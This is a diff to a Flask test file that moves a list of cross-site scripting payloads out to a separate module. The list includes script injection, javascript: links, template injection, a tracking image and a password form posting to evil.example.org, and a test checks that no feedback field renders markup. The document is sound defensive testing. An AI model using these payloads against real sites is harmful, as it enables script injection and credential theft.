@@ -9,26 +9,10 @@ from flask.testing import FlaskClient
 
 from tests.board import answer, comment, write
 from tests.cast import Cast
+from tests.hostile import CORPUS
 from tests.web.feedback.pages import text
 
 SignIn = Callable[[str], FlaskClient]
-CORPUS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    '"><iframe src="javascript:alert(1)">',
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt&colon;alert(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD4=)",
-    "![x](https://evil.example.org/track.png)",
-    '<a href="java&#10;script:alert(1)">x</a>',
-    "<style>*{display:none}</style>",
-    '`"onmouseover=alert(1)`',
-    "{{ 7*191 }}{% raw %}",
-    '<div style="position:fixed">x</div>',
-    "</textarea><script>alert(1)</script>",
-    "<form action=https://evil.example.org><input name=password>",
-]
 NEVER = {"iframe", "style", "object", "embed", "base", "math", "audio", "video"}
 
 
@@ -51,17 +35,17 @@ class _Tags(HTMLParser):
 @pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
 def test_no_field_lets_markup_through(app: Flask, cast: Cast, sign_in: SignIn) -> None:
     with app.app_context():
-        for hostile in CORPUS:
-            item_id = write(cast.alice, hostile, body=hostile)
+        for hostile in CORPUS[:-1]:  # the last one is refused, for it turns the direction of writing
+            item_id = write(cast.alice, " ".join(hostile.split()), body=hostile)
             comment(cast.carol, item_id, hostile)
             answer(item_id, response=hostile, reason=hostile)
     alice, petra = sign_in(cast.alice), sign_in(cast.petra)
     pages = ["/feedback/", "/feedback/?q=%22%3E%3Cscript%3E", "/feedback/new?title=%22%3E%3Cscript%3Ealert(1)"]
     for client, address in (
         *((alice, address) for address in pages),
-        *((alice, f"/feedback/{number}/") for number in range(1, len(CORPUS) + 1)),
+        *((alice, f"/feedback/{number}/") for number in range(1, len(CORPUS))),
         (petra, "/staff/feedback/"),
-        *((petra, f"/staff/feedback/{number}/") for number in range(1, len(CORPUS) + 1)),
+        *((petra, f"/staff/feedback/{number}/") for number in range(1, len(CORPUS))),
     ):
         page = text(client, address)
         tags = _Tags()
